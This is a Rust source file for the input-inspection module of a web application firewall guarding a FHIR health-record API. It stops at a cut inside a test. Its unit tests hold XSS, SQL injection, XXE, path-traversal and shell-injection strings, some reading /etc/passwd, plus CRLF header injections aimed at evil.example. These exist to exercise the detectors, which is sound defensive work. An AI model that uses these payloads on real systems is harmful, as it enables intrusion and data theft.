//! Input inspection, 無害化 (R-WAF-1, R-WAF-3): every value of a request a backend will read —
//! path segments, query parameters (names and values), cookies, header values (`head.rs`), and
//! JSON, urlencoded and XML bodies (`body.rs`) — is normalised ([`normalise`](mod@normalise))
//! and run through the detectors ([`detect`]). A route blocks (`inspect = "block"`, the default), only records
//! (`"detect"`), neutralises named body fields and blocks the rest (`"neutralise"`, R-WAF-4,
//! [`neutralise`]), or skips inspection (`"off"`). Uploaded files, and files a JSON or XML
//! body carries inline (FHIR attachments, `attachment`, `xml`), are taken apart and rebuilt
//! by [`disarm`] (R-WAF-2).
//!
//! FHIR narratives (`text.div`) hold XHTML by design: they are checked against the narrative
//! rules (no script, no event attributes, no `javascript:` URLs) instead of the generic XSS
//! patterns, so that a patient's record is not blocked for being a record.

mod attachment;
mod body;
pub mod detect;
pub mod disarm;
pub mod eval;
mod head;
mod json;
pub mod multipart;
pub mod neutralise;
pub mod normalise;
mod scan;
mod xml;

use std::cell::RefCell;
use std::collections::HashMap;

use http::HeaderMap;

use body::{body_kind, content_type, inspect_body};
pub use body::{check_body, BodyCheck};
pub(crate) use body::{declares_form, declares_json, is_json};
pub use detect::{Class, Hit};
use head::inspect_head;
use normalise::{normalise, Normalised, Plus};

/// Where in the request a finding was made.
#[derive(Clone, Copy, Debug, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Place {
    /// A path segment.
    Path,
    /// A query parameter (name or value).
    Query,
    /// A header value.
    Header,
    /// A cookie (name or value).
    Cookie,
    /// The body.
    Body,
}

/// One rule that fired, and where.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Finding {
    /// The rule.
    pub hit: Hit,
    /// Where.
    pub place: Place,
    /// Which field of that place: a query parameter's, cookie's or header's name, a form or
    /// multipart field's name, a JSON body field's dotted path (`note.text`, array levels
    /// skipped as FHIRPath does); empty for a path segment or a whole body.
    pub field: String,
}

/// What a route does with findings.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, serde::Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum Mode {
    /// Refuse the request (403 `inspect.blocked`).
    #[default]
    Block,
    /// Forward it, and record the rule ids.
    Detect,
    /// Rewrite the route's named body fields by fixed rules (R-WAF-4) and refuse what is
    /// found anywhere else, as `block` does.
    #[serde(alias = "neutralize")]
    Neutralise,
    /// Inspect nothing.
    Off,
}

/// A route's inspection settings.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct RouteInspection {
    /// Block, detect, neutralise or off.
    pub mode: Mode,
    /// Rules or classes not applied here, everywhere or in one field.
    pub exclude: Vec<Exclusion>,
    /// The body fields `neutralise` rewrites (dotted JSON paths or form field names).
    pub neutralise: Vec<String>,
    /// The files the route accepts as uploads, and how each is disarmed (R-WAF-2).
    pub files: disarm::Accepted,
}

/// A rule or class an operator turned off on a route (`inspect_exclude`): everywhere
/// (`"sqli-110"`, `"ssrf"`) or in one field (`"xss@body:note.text"`, `"sqli@query:q"`).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Exclusion {
    /// A rule id or class name.
    pub rule: String,
    /// The place and field it is limited to.
    pub field: Option<(Place, String)>,
}

impl Exclusion {
    /// Parse an `inspect_exclude` entry; the error says what would be valid.
    pub fn parse(text: &str) -> Result<Self, String> {
        let (rule, field) = match text.split_once('@') {
            Some((rule, at)) => (rule, Some(at)),
            None => (text, None),
        };
        if !is_rule_or_class(rule) {
            return Err(format!(
                "`{rule}` is not an inspection rule id or class (docs/inspect.md lists them)"
            ));
        }
        let field = match field {
            None => None,
            Some("path") => Some((Place::Path, String::new())),
            Some(at) => {
                let (place, name) = at.split_once(':').unwrap_or((at, ""));
                let place = [Place::Query, Place::Header, Place::Cookie, Place::Body]
                    .into_iter()
                    .find(|p| p.name() == place)
                    .filter(|_| !name.is_empty())
                    .ok_or_else(|| {
                        format!(
                            "`@{at}` names no field: write `@path`, `@query:NAME`, `@header:NAME`, `@cookie:NAME` or `@body:FIELD`"
                        )
                    })?;
                let name = if place == Place::Header {
                    name.to_ascii_lowercase()
                } else {
                    name.to_owned()
                };
                Some((place, name))
            }
        };
        Ok(Exclusion {
            rule: rule.to_owned(),
            field,
        })
    }

    fn covers(&self, hit: Hit, at: Place, field: &str) -> bool {
        (self.rule == hit.rule || self.rule == hit.class.name())
            && self
                .field
                .as_ref()
                .is_none_or(|(place, name)| *place == at && name == field)
    }
}

impl RouteInspection {
    /// Whether the route inspects at all.
    pub fn is_on(&self) -> bool {
        self.mode != Mode::Off
    }

    /// Whether this route may forward a body other than the client's: named fields
    /// neutralised, files disarmed.
    pub fn may_rewrite(&self) -> bool {
        self.is_on() && (self.mode == Mode::Neutralise || self.files.any())
    }

    /// The rules and classes this route excludes in every place: the detectors pass over
    /// them and read on.
    fn excluded_everywhere(&self) -> Vec<&str> {
        self.exclude
            .iter()
            .filter(|e| e.field.is_none())
            .map(|e| e.rule.as_str())
            .collect()
    }

    /// The fields this route excludes rules in, each with every rule passed over there (its
    /// own and those excluded everywhere). A field's value is read once more with them
    /// passed over, and what that reading finds *in that field* is kept: in one reading of
    /// the whole request they would be passed over in every field.
    fn excluded_in_fields(&self) -> Vec<((Place, &str), Vec<&str>)> {
        let mut fields: Vec<((Place, &str), Vec<&str>)> = Vec::new();
        for e in &self.exclude {
            let Some((place, name)) = &e.field else {
                continue;
            };
            let key = (*place, name.as_str());
            match fields.iter_mut().find(|(k, _)| *k == key) {
                Some((_, rules)) => rules.push(e.rule.as_str()),
                None => {
                    let mut rules = self.excluded_everywhere();
                    rules.push(e.rule.as_str());
                    fields.push((key, rules));
                }
            }
        }
        fields
    }

    /// Whether `finding` is in a field this route neutralises rather than refuses, and of a
    /// class the fixed rule disarms: markup and SQL need `<`, `>`, `&` or a quote, which
    /// become entities. A shell command, a lookup (`${jndi:…}`), a template, a path or an
    /// address is the same text after the rewrite, and is refused there as anywhere.
    pub fn neutralises(&self, finding: &Finding) -> bool {
        self.mode == Mode::Neutralise
            && finding.place == Place::Body
            && matches!(
                finding.hit.class,
                detect::Class::Xss | detect::Class::Sqli | detect::Class::Xxe
            )
            && self.neutralise.contains(&finding.field)
    }

    /// The finding that refuses the request, if any: in `block` mode the first; in
    /// `neutralise` mode the first outside the neutralised fields; none in `detect` mode.
    pub fn refusing<'f>(&self, findings: &'f [Finding]) -> Option<&'f Finding> {
        match self.mode {
            Mode::Block => findings.first(),
            Mode::Neutralise => findings.iter().find(|f| !self.neutralises(f)),
            Mode::Detect | Mode::Off => None,
        }
    }
}

/// Whether `text` is a rule id or a class name (for policy exclusions).
pub fn is_rule_or_class(text: &str) -> bool {
    detect::RULE_IDS.contains(&text) || detect::CLASSES.iter().any(|c| c.name() == text)
}

impl Place {
    /// Its name in refusals and records.
    pub const fn name(self) -> &'static str {
        match self {
            Place::Path => "path",
            Place::Query => "query",
            Place::Header => "header",
            Place::Cookie => "cookie",
            Place::Body => "body",
        }
    }
}

/// The most findings kept for one request (a detect-mode record lists their rule ids).
const MAX_FINDINGS: usize = 8;

/// What inspection reads of a request.
#[derive(Clone, Copy, Debug)]
pub struct Target<'a> {
    /// The method (a `_method` parameter naming another is an override).
    pub method: &'a http::Method,
    /// The path, without the query.
    pub path: &'a str,
    /// The query string, without `?`.
    pub query: Option<&'a str>,
    /// The headers.
    pub headers: &'a HeaderMap,
    /// The authority of the request target, where it has one: HTTP/2's `:authority` (an
    /// HTTP/2 client need not send `Host`), or an absolute-form target's. The request's own
    /// site is `Host`, else this.
    pub authority: Option<&'a str>,
    /// The body, when it was read.
    pub body: Option<&'a [u8]>,
}

/// Whether a raw value is an identifier, a date or a number (letters, digits, `-`, single `_`;
/// short): only [`detect::plain_value`] can fire on it, so it is not normalised at all. Most
/// values of a PHR API are such (`p-001`, `2026-04-10`, `self-management`).
fn plain(raw: &[u8]) -> bool {
    if raw.len() > 128 {
        return false;
    }
    // One pass: every value is asked this, most of them a few bytes long.
    let mut after_underscore = false;
    raw.iter().all(|&b| {
        let underscore = b == b'_';
        let fits = b.is_ascii_alphanumeric() || b == b'-' || (underscore && !after_underscore);
        after_underscore = underscore;
        fits
    })
}

/// Inspect one value: nothing for a plain one, else normalised and run through the detectors.
fn value_hit(raw: &[u8], plus: Plus) -> Option<Hit> {
    if plain(raw) {
        return detect::plain_value(raw);
    }
    normalised_hit(&normalise(raw, plus), plus)
}

/// [`value_hit`] of a value already normalised.
fn normalised_hit(n: &Normalised, plus: Plus) -> Option<Hit> {
    // `+` as a space marks the form-encoded places: a query and an urlencoded body.
    detect::value(n).or_else(|| match plus {
        Plus::Space => detect::form_encoding(n),
        Plus::Literal => None,
    })
}

/// Verdicts on values seen before, keyed by the whole value (no hash collision can pass an
/// attack as a benign value seen before): a client sends the same `User-Agent` on every
/// request, and FHIR documents the same keys, code systems and units in every resource.
/// One table per worker thread (no lock on the request path); values longer than `longest`
/// are not kept (a note is seldom sent twice), and a full table starts again empty, so that
/// memory stays bounded whatever a client sends.
struct Verdicts<V = Option<Hit>> {
    seen: HashMap<Box<[u8]>, V, foldhash::fast::RandomState>,
    entries: usize,
    longest: usize,
}

thread_local! {
    static SEEN_FETCHED: RefCell<Verdicts> = RefCell::new(Verdicts::new(16_384, 512));
    static SEEN_PAGES: RefCell<Verdicts> = RefCell::new(Verdicts::new(4_096, 512));
    static SEEN_AGENTS: RefCell<Verdicts> = RefCell::new(Verdicts::new(4_096, 512));
    static SEEN_JSON_KEYS: RefCell<Verdicts<json::KeyVerdict>> =
        RefCell::new(Verdicts::new(8_192, 64));
    static SEEN_JSON_VALUES: RefCell<Verdicts> = RefCell::new(Verdicts::new(16_384, 128));
}

/// Empty this thread's verdict tables: `inspect eval` measures a second pass over its corpora
/// with warm automata but no verdict remembered from the first. Never inlined: profilers
/// (`callgrind --zero-before=…forget_seen_values`) mark that second pass by it.
#[inline(never)]
pub(crate) fn forget_seen_values() {
    for table in [&SEEN_FETCHED, &SEEN_PAGES, &SEEN_AGENTS, &SEEN_JSON_VALUES] {
        table.with_borrow_mut(|t| t.seen.clear());
    }
    SEEN_JSON_KEYS.with_borrow_mut(|t| t.seen.clear());
}

impl<V: Copy> Verdicts<V> {
    fn new(entries: usize, longest: usize) -> Self {
        Verdicts {
            seen: HashMap::default(),
            entries,
            longest,
        }
    }

    /// The verdict on `raw` from `table`, made by `verdict` when it is not there.
    fn get_or(
        table: &'static std::thread::LocalKey<std::cell::RefCell<Verdicts<V>>>,
        raw: &[u8],
        verdict: impl FnOnce() -> V,
    ) -> V {
        if detect::is_passing_over() {
            // A verdict with rules passed over is this route's own, and one remembered from
            // another route may name a rule this one passes over.
            return verdict();
        }
        let known = table.with_borrow(|t| {
            if raw.len() > t.longest {
                None
            } else {
                Some(t.seen.get(raw).copied())
            }
        });
        match known {
            None => verdict(),
            Some(Some(found)) => found,
            Some(None) => {
                let found = verdict();
                table.with_borrow_mut(|t| {
                    if t.seen.len() >= t.entries {
                        t.seen.clear();
                    }
                    t.seen.insert(raw.into(), found);
                });
                found
            }
        }
    }
}

/// What inspection has found so far. It stops looking once [`MAX_FINDINGS`] are found, except
/// that findings in a `neutralise` route's named body fields do not count: those fields are
/// rewritten whatever they hold, their findings are many by design (every note a patient wrote
/// with markup), and they must not end inspection before an attack elsewhere is found.
#[derive(Default)]
struct Findings {
    list: Vec<Finding>,
    /// The named fields of a `neutralise` route.
    neutralised: Vec<String>,
    /// How many findings count toward the cap.
    counted: usize,
    /// The route's exclusions: a finding they cover is dropped as it is found, neither kept
    /// nor counted toward the cap, so that what they excuse can never fill the cap and stop
    /// the inspection before what they do not excuse is found.
    exclude: Vec<Exclusion>,
    /// For a document read inside a field (a file sent inline): the field its findings are
    /// charged to, where the exclusions look.
    within: Option<String>,
}

impl Findings {
    /// Findings for a request on `route`.
    fn for_route(route: &RouteInspection) -> Self {
        Self {
            neutralised: if route.mode == Mode::Neutralise {
                route.neutralise.clone()
            } else {
                Vec::new()
            },
            exclude: route.exclude.clone(),
            ..Self::default()
        }
    }

    /// Findings for a document read inside `field`, under the same exclusions.
    fn within(&self, field: &str) -> Self {
        Self {
            exclude: self.exclude.clone(),
            within: Some(field.to_owned()),
            ..Self::default()
        }
    }

    /// Keep `hit`, made in `place` at the field `field` names (only asked for on a hit),
    /// unless the route excludes it there. Returns whether the findings are full.
    fn add(&mut self, hit: Option<Hit>, place: Place, field: impl FnOnce() -> String) -> bool {
        if let Some(hit) = hit {
            let field = field();
            if !self.exclude.is_empty() {
                let charged = self.within.as_deref().unwrap_or(&field);
                if self.exclude.iter().any(|e| e.covers(hit, place, charged)) {
                    return self.counted >= MAX_FINDINGS;
                }
            }
            if !self
                .list
                .iter()
                .any(|f| f.hit == hit && f.place == place && f.field == field)
            {
                if !(place == Place::Body && self.neutralised.contains(&field)) {
                    self.counted += 1;
                }
                self.list.push(Finding { hit, place, field });
            }
        }
        self.counted >= MAX_FINDINGS
    }
}

/// No field: a path segment or a whole body.
fn whole() -> String {
    String::new()
}

/// The refusal of a request whose inspection found `finding` (R-WAF-1). It names the class and
/// the place, not the rule (the access record has it, for the operator's exclusions).
pub fn refusal(finding: &Finding) -> crate::decision::Refusal {
    crate::decision::Refusal::new(
        crate::decision::Reason::InspectBlocked,
        format!(
            "the request's {} holds what input inspection takes for {}; if it is legitimate, give the operator this request's id",
            finding.place.name(),
            finding.hit.class.name()
        ),
    )
}

/// Build the detectors and their search caches, by inspecting a small benign request on this
/// thread: `inspect eval` calls it before it measures. Returns what it found, which is nothing
/// unless the detectors are broken. (The gateway calls [`detect::compile`] instead, which
/// searches nothing: a regex's fast search cache belongs to the first thread that searches,
/// and in the gateway that must be a worker.)
pub fn warm_up() -> Vec<Finding> {
    let mut headers = HeaderMap::new();
    headers.insert(
        http::header::CONTENT_TYPE,
        http::HeaderValue::from_static("application/fhir+json"),
    );
    headers.insert(
        http::header::USER_AGENT,
        http::HeaderValue::from_static("phr-app/1.4"),
    );
    let mut found = inspect(&Target {
        method: &http::Method::POST,
        path: "/fhir/Observation",
        query: Some("code=8480-6&note=%E6%9C%9D%E9%A3%9F%E5%BE%8C+ok"),
        headers: &headers,
        authority: Some("phr.example"),
        body: None,
    });
    // A narrative, a note, a URL and an inline file: every kind of value a FHIR body holds.
    let body = r#"{"text":{"div":"<div>血圧（安静時）</div>"},"note":[{"text":"朝食後 ok (fasting) 5.6%"}],"valueString":"http://loinc.org/8480-6","content":{"contentType":"image/gif","data":"R0lGODlhAQABAAAAACw="}}"#;
    found.extend(check_body(body.as_bytes(), &headers, &RouteInspection::default()).findings);
    found
}

/// Inspect a request's head (path, query, cookies, headers) and, when given, its body, with
/// a new route's settings (no exclusions).
pub fn inspect(target: &Target<'_>) -> Vec<Finding> {
    inspect_on(target, &RouteInspection::default())
}

/// [`inspect`] on `route`: what its exclusions cover is not kept.
pub fn inspect_on(target: &Target<'_>, route: &RouteInspection) -> Vec<Finding> {
    let read = |passed_over: &[&str]| {
        let mut found = Findings::for_route(route);
        detect::passing_over(passed_over, || {
            inspect_head(target, &mut found);
            if let Some(body) = target.body {
                inspect_body(body, &body_kind(content_type(target.headers)), &mut found);
            }
        });
        found.list
    };
    let mut list = read(&route.excluded_everywhere());
    for ((place, field), passed_over) in route.excluded_in_fields() {
        for finding in read(&passed_over) {
            if finding.place == place && finding.field == field && !list.contains(&finding) {
                list.push(finding);
            }
        }
    }
    list
}

/// FHIR's narrative rules (R4 `txt-1`, `txt-2`): no scripts, event attributes, `javascript:`
/// URLs or active elements in `text.div`.
pub(crate) fn narrative(xhtml: &str) -> Option<Hit> {
    let n = normalise::normalise_str(xhtml, Plus::Literal);
    let folded = &n.folded;
    // Looked for in one pass, not one per word.
    static ACTIVE: std::sync::LazyLock<Option<aho_corasick::AhoCorasick>> =
        std::sync::LazyLock::new(|| {
            // Leftmost-first (only whether one is there matters): the kind whose prefilter
            // is Teddy, which looks at each candidate's first bytes together, vectorised.
            // The standard kind's prefilter stops at each `<`, and XHTML is full of them.
            aho_corasick::AhoCorasick::builder()
                .match_kind(aho_corasick::MatchKind::LeftmostFirst)
                .build([
                    "<script",
                    "<iframe",
                    "<object",
                    "<embed",
                    "<form",
                    "<style",
                    "<link",
                    "<meta",
                    "<base",
                    "javascript:",
                    "vbscript:",
                    "data:text/html",
                ])
                .ok()
        });
    // The automaton is built from constants (unit-tested); failing that, every narrative is
    // refused rather than none.
    let active = ACTIVE
        .as_ref()
        .is_none_or(|words| words.is_match(folded.as_bytes()));
    static EVENT_PREFIX: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
        std::sync::LazyLock::new(|| memchr::memmem::Finder::new(" on"));
    let event = EVENT_PREFIX.find_iter(folded.as_bytes()).any(|at| {
        let rest = &folded[at + 3..];
        let name_len = rest.bytes().take_while(u8::is_ascii_alphabetic).count();
        name_len >= 3 && rest[name_len..].trim_start().starts_with('=')
    });
    (event || active).then_some(Hit {
        rule: "xss-120",
        class: Class::Xss,
    })
}

#[cfg(test)]
mod tests {
    use super::head::header_hit;
    use super::*;

    #[test]
    fn a_body_without_a_type_is_refused_when_it_is_read_r_waf_3() {
        use crate::decision::Reason;
        // An HTTP/2 body needs no length, so the head could not say it had one.
        let untyped = HeaderMap::new();
        let checked = check_body(b"{\"a\":1}", &untyped, &RouteInspection::default());
        assert_eq!(
            checked.refusal.map(|r| r.reason),
            Some(Reason::ProtocolContentTypeMissing)
        );
        assert!(check_body(b"", &untyped, &RouteInspection::default())
            .refusal
            .is_none());
        let mut typed = HeaderMap::new();
        typed.insert(
            http::header::CONTENT_TYPE,
            http::HeaderValue::from_static("application/json"),
        );
        assert!(
            check_body(b"{\"a\":1}", &typed, &RouteInspection::default())
                .refusal
                .is_none()
        );
    }

    /// A JSON body behind a byte order mark is read as text by the gateway and as JSON by a
    /// backend that skips the mark: refused; the same mark on a text body is text.
    #[test]
    fn a_json_body_with_a_byte_order_mark_is_refused_r_waf_3() {
        use crate::decision::Reason;
        let typed = |media: &'static str| {
            let mut headers = HeaderMap::new();
            headers.insert(
                http::header::CONTENT_TYPE,
                http::HeaderValue::from_static(media),
            );
            headers
        };
        let marked = b"\xEF\xBB\xBF{\"a\":1,\"a\":2}";
        for media in ["application/json", "application/fhir+json; charset=utf-8"] {
            let checked = check_body(marked, &typed(media), &RouteInspection::default());
            assert_eq!(
                checked.refusal.map(|r| r.reason),
                Some(Reason::ProtocolMalformedBody),
                "{media}"
            );
        }
        let text = check_body(
            b"\xEF\xBB\xBFnote",
            &typed("text/plain"),
            &RouteInspection::default(),
        );
        assert!(text.refusal.is_none());
    }

    /// The start-up request is benign: a gateway whose detectors refused it would refuse a
    /// patient's ordinary write.
    #[test]
    fn the_warm_up_request_finds_nothing() {
        assert_eq!(warm_up(), Vec::new());
    }

    /// Clinical shorthand and patients' notes (English and Japanese), written for this test:
    /// lab values with `%` and parentheses, `s/p`, `h/o`, `; echo showed …`. None may be
    /// refused as a query value, a form field or a FHIR note (R-WAF-1: a gateway that blocks
    /// a patient's note is broken). `tests/data/clinical-notes.txt`, one text a line.
    #[test]
    fn clinical_notes_pass_everywhere() {
        let notes = include_str!("../tests/data/clinical-notes.txt");
        let mut seen = 0;
        for note in notes.lines().filter(|l| !l.is_empty()) {
            assert_note_passes(note);
            seen += 1;
        }
        assert!(seen > 150, "the notes were read: {seen}");
    }

    /// `note` is refused nowhere a patient's text goes: a query value, a FHIR note, a form
    /// field.
    /// A CDA clinical document or a FHIR resource in XML sent as a value is read as an XML
    /// document, not refused for its declaration and namespaces; what an XML body may not
    /// hold it may not either.
    #[test]
    fn xml_documents_as_values_are_read_as_documents() {
        const CDA: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
  <title>特定健診情報ファイル</title>
  <component><structuredBody><component><section>
    <text><paragraph>BMI 22.4 kg/m2; 腹囲 82 cm (基準内)</paragraph></text>
    <entry><observation classCode="OBS" moodCode="EVN"><value xsi:type="PQ" value="118" unit="mm[Hg]"/></observation></entry>
  </section></component></structuredBody></component>
</ClinicalDocument>"#;
        const FHIR: &str = r#"<?xml version="1.0"?><Observation xmlns="http://hl7.org/fhir"><text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml"><p>血圧 <b>118/76</b></p></div></text><status value="final"/></Observation>"#;
        for document in [CDA, FHIR, r#"<?xml version="1.0" encoding="UTF-8"?>"#] {
            assert_note_passes(document);
        }
        let attacks = [
            // Script, handlers and URLs, in the document's markup or its text.
            r#"<?xml version="1.0"?><a><script>x=1</script></a>"#,
            r#"<?xml version="1.0"?><a><b onload="go()"/></a>"#,
            r#"<?xml version="1.0"?><a href="javascript:go()">x</a>"#,
            r#"<?xml version="1.0"?><a><note>' or 1=1--</note></a>"#,
            r#"<?xml version="1.0"?><Observation xmlns="http://hl7.org/fhir"><text><div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="go()"/></div></text></Observation>"#,
            // What the document reading does not vouch for: libinjection's reading refuses it.
            r#"<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://x.example/a.xsl"?><a/>"#,
            r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>"#,
            r#"<?xml version="1.0"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>x=1</h:script></a>"#,
            r#"<?xml version="1.0"?><a xmlns:h="http&#58;//www.w3.org/1999/xhtml"><h:script>x=1</h:script></a>"#,
            r#"<?xml version="1.0"?><a><data value="JVBERi0xLjQK"/><contentType value="application/pdf"/></a>"#,
            r#"<?xml version="1.0"?><a><b></a>"#,
            r#"<?xml-stylesheet href="https://x.example/a.xsl"?>"#,
        ];
        for attack in attacks {
            let encoded =
                percent_encoding::utf8_percent_encode(attack, percent_encoding::NON_ALPHANUMERIC);
            assert!(
                !findings("/x", Some(&format!("q={encoded}")), &[], None).is_empty(),
                "{attack}"
            );
            let body =
                serde_json::json!({"resourceType": "Observation", "note": [{"text": attack}]});
            let json = [("content-type", "application/fhir+json")];
            assert!(
                !findings("/x", None, &json, Some(&body.to_string())).is_empty(),
                "{attack}"
            );
        }
    }

    fn assert_note_passes(note: &str) {
        let encoded =
            percent_encoding::utf8_percent_encode(note, percent_encoding::NON_ALPHANUMERIC)
                .to_string();
        let json = [("content-type", "application/fhir+json")];
        let form = [("content-type", "application/x-www-form-urlencoded")];
        let body = serde_json::json!({"resourceType": "Observation", "note": [{"text": note}]});
        assert_eq!(
            findings("/x", Some(&format!("q={encoded}")), &[], None),
            [""; 0],
            "query: {note}"
        );
        assert_eq!(
            findings("/x", None, &json, Some(&body.to_string())),
            [""; 0],
            "json: {note}"
        );
        assert_eq!(
            findings("/x", None, &form, Some(&format!("note={encoded}"))),
            [""; 0],
            "form: {note}"
        );
    }

    /// Requests a PHR app sends, written for this test (`tests/data/health-requests.txt`,
    /// one request target a line): FHIR searches with modifiers, chains, `_filter` and
    /// `_has`, terminology operations (`$lookup?system=http://loinc.org`), `$graphql`
    /// selections (`name{given,family}`), SMART on FHIR's authorisation and token requests
    /// (`scope=patient/*.read`). None may be refused (R-WAF-1).
    #[test]
    fn health_api_requests_pass() {
        let targets = include_str!("../tests/data/health-requests.txt");
        let mut seen = 0;
        for target in targets.lines().filter(|l| !l.is_empty()) {
            let (path, query) = target.split_once('?').unwrap_or((target, ""));
            assert_eq!(
                findings(path, Some(query), &[("host", "phr.example.test")], None),
                [""; 0],
                "{target}"
            );
            seen += 1;
        }
        assert!(seen > 50, "the requests were read: {seen}");
    }

    /// Notes are lines: a SOAP note (`S:`, `O:`, `Plan:`), an `X-ray:` line, a line that
    /// starts `<0.5`, in a FHIR note, a search, a form, a text body and a text file sent
    /// inline, pass;
    /// a line break before a header a response acts on, or any header line inside a
    /// header's value, is refused (`crlf-100`, R-WAF-1).
    #[test]
    fn multi_line_notes_pass_and_injected_header_lines_do_not() {
        use base64::Engine as _;
        let notes = [
            "S: headache x2 days\nO: BP 128/82, HR 72\nA: tension headache\nP: rest",
            "Subjective: feels better\r\nPlan: continue meds",
            "X-ray: no fracture\nCT: normal",
            "CRP\n<0.5 mg/dL",
            "[Nursing Shift Note]\nNurse: Inez Gill\nBP 120/69, HR 83",
            "Pain 4/10\nLocation: lower back\nConnection: none noted",
            "Diet\nCookie: 2 pieces\nHost: Dr. Tanaka\nAuthorization: signed by parent",
            // A diary's and a chart's lines that start with a word a shell also knows.
            "Diary:\nSleep 6 hours, woke twice\nSleep 6.5 hours\nSleep - poor",
            "Infant check\nHead 54 cm circumference\nID 12345 verified",
            "Seen today.\nID card renewed at the front desk.\nCat scan booked",
        ];
        let json = [("content-type", "application/fhir+json")];
        let text = [("content-type", "text/plain; charset=utf-8")];
        for note in notes {
            assert_note_passes(note);
            let file = serde_json::json!({"resourceType": "DocumentReference", "content": [{"attachment": {
                "contentType": "text/plain",
                "data": base64::engine::general_purpose::STANDARD.encode(note),
            }}]});
            assert_eq!(findings("/x", None, &text, Some(note)), [""; 0], "{note}");
            assert_eq!(
                findings("/x", None, &json, Some(&file.to_string())),
                [""; 0],
                "{note}"
            );
        }
        for query in [
            "next=%2Fhome%0D%0AContent-Type%3A%20text%2Fhtml",
            "a=b%0d%0aLocation:%20http://evil.example",
            "v=bar%0d%0aRemote-addr:%20foo.bar.com",
            "r=x%0d%0a%0d%0a%3Chtml%3E",
            "r=x%0d%0aLocation:%20/admin",
            "r=x%0d%0aContent-Length:%200",
            "r=x%0d%0aHost:%20evil.example",
            "r=x%0d%0arefresh:%20www.bar.com",
        ] {
            assert_eq!(
                findings("/x", Some(query), &[], None),
                ["crlf-100"],
                "{query}"
            );
        }
        assert_eq!(
            findings("/x", None, &[("x-note", "a%0dInjectedHeader: b")], None),
            ["crlf-100"]
        );
    }

    /// `GET /x?{query}` with `headers`.
    fn get_x<'a>(query: &'a str, headers: &'a HeaderMap) -> Target<'a> {
        Target {
            method: &http::Method::GET,
            path: "/x",
            query: Some(query),
            headers,
            authority: None,
            body: None,
        }
    }

    /// What a route's exclusions excuse must not fill the findings and end inspection before
    /// what they do not excuse is found: nine SQL injections on a route that excludes `sqli`
    /// (the cap is eight) do not hide the script after them, in the query or in a body.
    #[test]
    fn excluded_findings_do_not_hide_an_attack_elsewhere() {
        let route = RouteInspection {
            exclude: vec![Exclusion::parse("sqli").expect("exclusion")],
            ..RouteInspection::default()
        };
        let sqli: Vec<String> = (0..9).map(|i| format!("a{i}=%27+or+1%3D1--")).collect();
        let query = format!("{}&z=%3Cscript%3Ealert(1)%3C/script%3E", sqli.join("&"));
        let headers = HeaderMap::new();
        let target = get_x(&query, &headers);
        let found = inspect_on(&target, &route);
        let refusing = route.refusing(&found).expect("the script is found");
        assert_eq!(
            (refusing.hit.class, refusing.field.as_str()),
            (detect::Class::Xss, "z")
        );
        // Without the script, nothing the route keeps.
        let query = sqli.join("&");
        let quiet = Target {
            query: Some(&query),
            ..target
        };
        assert!(inspect_on(&quiet, &route).is_empty());

        let mut json: serde_json::Map<String, serde_json::Value> = (0..9)
            .map(|i| (format!("a{i}"), serde_json::json!("' or 1=1--")))
            .collect();
        json.insert("z".into(), serde_json::json!("<script>alert(1)</script>"));
        let mut headers = HeaderMap::new();
        headers.insert(
            http::header::CONTENT_TYPE,
            http::HeaderValue::from_static("application/json"),
        );
        let body = serde_json::Value::Object(json).to_string();
        let checked = check_body(body.as_bytes(), &headers, &route);
        let refusing = checked.refusal.expect("the script in the body is found");
        assert!(refusing.detail.contains("xss"), "{}", refusing.detail);
    }

    /// An exclusion excuses its own rules, not the value they fire on: the value is read on
    /// past them. Each pair is an excluded class and a value where it fires first and an
    /// attack of another class follows.
    #[test]
    fn an_excluded_rule_firing_first_does_not_hide_another_in_the_same_value() {
        let headers = HeaderMap::new();
        let mut json = HeaderMap::new();
        json.insert(
            http::header::CONTENT_TYPE,
            http::HeaderValue::from_static("application/json"),
        );
        // (excluded, its class, a value where it fires first and another class follows)
        let cases = [
            (
                "xss",
                "xss",
                "%3Cscript%3Ealert(1)%3C/script%3E;cat+/etc/passwd",
            ),
            ("lfi", "lfi", "../../etc/passwd%27+or+1%3D1--"),
            // A rule excluded: the class's other rules still read the value.
            ("lfi-100", "lfi", "../../etc/passwd%27+or+1%3D1--"),
        ];
        let excuses =
            |excluded: &str, hit: Hit| hit.rule == excluded || hit.class.name() == excluded;
        for (excluded, class, value) in cases {
            let query = format!("q={value}");
            let target = get_x(&query, &headers);
            // On a route without the exclusion, the excluded class is what fires first.
            let plain = inspect_on(&target, &RouteInspection::default());
            assert_eq!(plain.first().map(|f| f.hit.class.name()), Some(class));
            let route = RouteInspection {
                exclude: vec![Exclusion::parse(excluded).expect("exclusion")],
                ..RouteInspection::default()
            };
            let found = inspect_on(&target, &route);
            assert!(
                found.first().is_some_and(|f| !excuses(excluded, f.hit)),
                "{excluded} excluded, {query}: {found:?}"
            );
            // The same in a JSON body.
            let text = percent_encoding::percent_decode_str(value).decode_utf8_lossy();
            let body = serde_json::json!({ "q": text.replace('+', " ") }).to_string();
            // Judged first on a route without the exclusion, as a worker thread may have.
            let plain = check_body(body.as_bytes(), &json, &RouteInspection::default());
            assert_eq!(
                plain.findings.first().map(|f| f.hit.class.name()),
                Some(class)
            );
            let checked = check_body(body.as_bytes(), &json, &route);
            assert!(
                checked.refusal.is_some()
                    && checked.findings.iter().all(|f| !excuses(excluded, f.hit)),
                "{excluded} excluded, body {body}: {:?}",
                checked.findings
            );
            // Nothing is remembered for another route.
            let again = inspect_on(&target, &RouteInspection::default());
            assert_eq!(again.first().map(|f| f.hit.class.name()), Some(class));
            // A header's verdict is remembered per worker thread: not across routes that
            // pass over different rules, either way.
